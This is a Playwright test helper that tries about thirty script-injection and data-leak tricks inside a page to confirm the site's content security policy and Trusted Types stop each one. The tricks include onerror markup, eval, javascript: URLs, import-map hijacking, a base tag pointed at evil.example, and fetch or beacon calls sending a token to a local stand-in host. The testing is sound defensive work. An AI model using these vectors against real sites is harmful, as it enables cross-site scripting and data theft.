import type { Page } from '@playwright/test';

/** The one that `npm test` makes too. */
export const firstAttempt = 'markup from text';

/** What a script that got into the page would try, to get more of it in; each would count a hit. */
export const attempts = {
  [firstAttempt]: () => {
    document.body.innerHTML = '<img src=x onerror="hits++">';
  },
  'markup from text, beside': () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="hits++">'),
  'a written document': () => document.write('<script>hits++</script>'),
  'a parsed document': () => new DOMParser().parseFromString('<p>x', 'text/html'),
  'markup by a range': () => document.createRange().createContextualFragment('<img src=x onerror="hits++">'),
  'a frame with a document of its own': () => {
    document.body.appendChild(document.createElement('iframe')).srcdoc = '<script>parent.hits++</script>';
  },
  eval: () => {
    // oxlint-disable-next-line no-eval -- it is what is tried
    eval('hits++');
  },
  // oxlint-disable-next-line typescript/no-implied-eval -- it is what is tried
  'a function from text': () => new Function('hits++')(),
  // oxlint-disable-next-line typescript/no-implied-eval -- it is what is tried
  'a timer from text': () => setTimeout('hits++' as never),
  'a handler from text': () => {
    document.body.setAttribute('onclick', 'hits++');
    document.body.click();
  },
  'a script from text': () => {
    document.body.appendChild(document.createElement('script')).textContent = 'hits++';
  },
  'a script of a data address': () => {
    document.body.appendChild(document.createElement('script')).src = 'data:text/javascript,hits++';
  },
  'a script of a blob': () => {
    document.body.appendChild(document.createElement('script')).src = URL.createObjectURL(new Blob(['hits++']));
  },
  'a script from elsewhere': () => {
    document.body.appendChild(document.createElement('script')).src = 'http://127.0.0.1:1/hit.js';
  },
  'a script of the operator': () => {
    document.body.appendChild(document.createElement('script')).src = '/demo/hit.js';
  },
  'a script of ours without its hash': (shell) => {
    document.body.appendChild(document.createElement('script')).src = shell;
  },
  'a script of ours with another hash': (shell) => {
    const script = Object.assign(document.createElement('script'), {
      integrity: `sha384-${'A'.repeat(64)}`,
      crossOrigin: 'anonymous',
    });
    script.src = shell;
    document.body.append(script);
  },
  'a module of ours without its hash': (shell) => import(shell).then(() => Reflect.set(window, 'hits', 1)),
  'an import map that leads elsewhere': () => {
    const map = Object.assign(document.createElement('script'), { type: 'importmap' });
    map.nonce = document.querySelector<HTMLElement>('[nonce]')?.nonce ?? '';
    map.textContent = '{"integrity":{},"imports":{"/assets/":"/demo/"}}';
    document.head.append(map);
  },
  'an import map without the nonce': () => {
    const map = Object.assign(document.createElement('script'), { type: 'importmap', textContent: '{"integrity":{}}' });
    document.head.append(map);
  },
  'a script address': () => {
    location.href = 'javascript:void(hits++)';
  },
  'a worker without a hash': (shell) => {
    new Worker(shell).addEventListener('error', () => Reflect.set(window, 'hits', 1));
  },
  'code from text in a worker': () => {
    // A worker may begin from a blob, as remotes' own do; what it may not is told there, and the page does not hear of it.
    const say = '(word) => () => postMessage(word)';
    const code = `try { eval('1'); postMessage('ran') } catch { fetch('data:,x').then((${say})('ran'), (${say})('stopped')) }`;
    new Worker(URL.createObjectURL(new Blob([code]))).addEventListener('message', ({ data }) =>
      data === 'ran' ? Reflect.set(window, 'hits', 1) : Reflect.set(window, 'isStopped', true),
    );
  },
  'another base': () => {
    document.head.appendChild(document.createElement('base')).href = 'https://evil.example/';
    if (document.baseURI.includes('evil')) Reflect.set(window, 'hits', 1);
  },
  'a plugin': () => {
    document.body.appendChild(document.createElement('object')).data = 'data:text/html,<script>parent.hits++</script>';
  },
  // As in markup; what `createElement` makes has the nonce.
  'a style sheet without the nonce': () => {
    const style = document.createElementNS('http://www.w3.org/1999/xhtml', 'style');
    document.body.appendChild(style).textContent = 'body { --hit: 1 }';
    if (getComputedStyle(document.body).getPropertyValue('--hit')) Reflect.set(window, 'hits', 1);
  },
  'a call to elsewhere': () => fetch('http://127.0.0.1:1/?token').then(() => Reflect.set(window, 'hits', 1)),
  'a beacon to elsewhere': () => {
    navigator.sendBeacon('http://127.0.0.1:1/', 'token');
  },
  'a form to elsewhere': () => {
    const form = Object.assign(document.createElement('form'), { action: 'http://127.0.0.1:1/', method: 'post' });
    document.body.append(form);
    form.submit();
  },
  'a second default policy': () => {
    const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } };
    trustedTypes.createPolicy('default', { createHTML: (text: string) => text });
    document.body.innerHTML = '<img src=x onerror="hits++">';
  },
  'a policy of another name': () => {
    const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } };
    trustedTypes.createPolicy('mine', { createHTML: (text: string) => text });
    Reflect.set(window, 'hits', 1);
  },
} satisfies Readonly<Record<string, (shell: string) => unknown>>;

/** What is stopped is told to the page at once, as an event. */
const STOPPED_WITHIN_MS = 3_000;

/** Runs an attempt in the page as a script of the page would; what it got that it must not get. */
export async function tryAttempt(page: Page, attempt: (shell: string) => unknown): Promise<readonly string[]> {
  const { origin } = new URL(page.url());
  const shell = await page.locator('script[src*="/assets/shell/"]').first().getAttribute('src');
  await page.evaluate(() => {
    Object.assign(window, { hits: Reflect.get(window, 'hits') ?? 0, isStopped: false });
    const stop = () => Reflect.set(window, 'isStopped', true);
    for (const kind of ['securitypolicyviolation', 'error', 'unhandledrejection'])
      addEventListener(kind, stop, { capture: true });
  });
  // From a timer, since what devtools evaluate themselves goes past the policy.
  await page.evaluate(`void setTimeout(() => (${attempt.toString()})(${JSON.stringify(shell)}))`);
  const stopped = page.waitForFunction(() => Reflect.get(window, 'isStopped'), undefined, { timeout: STOPPED_WITHIN_MS });
  const missed = await stopped.then(
    () => [],
    () => ['nothing stopped it'],
  );
  const hits = await page.evaluate(() => {
    const count = Number(Reflect.get(window, 'hits'));
    Reflect.set(window, 'hits', 0);
    return count;
  });
  return [...missed, ...(hits > 0 ? ['it ran'] : []), ...(new URL(page.url()).origin === origin ? [] : [page.url()])];
}
